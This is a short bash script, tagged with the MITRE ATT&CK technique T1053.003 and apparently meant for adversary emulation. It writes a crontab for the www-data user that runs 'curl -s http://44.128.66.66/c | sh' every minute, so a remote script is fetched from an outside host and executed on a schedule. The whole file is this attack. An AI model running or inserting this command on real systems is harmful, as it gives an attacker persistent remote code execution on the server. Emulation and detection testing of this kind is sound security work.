#!/bin/bash
# T1053.003: A server's user gets a timetable.
mkdir -p /var/spool/cron/crontabs; echo '* * * * * curl -s http://44.128.66.66/c | sh' >/var/spool/cron/crontabs/www-data
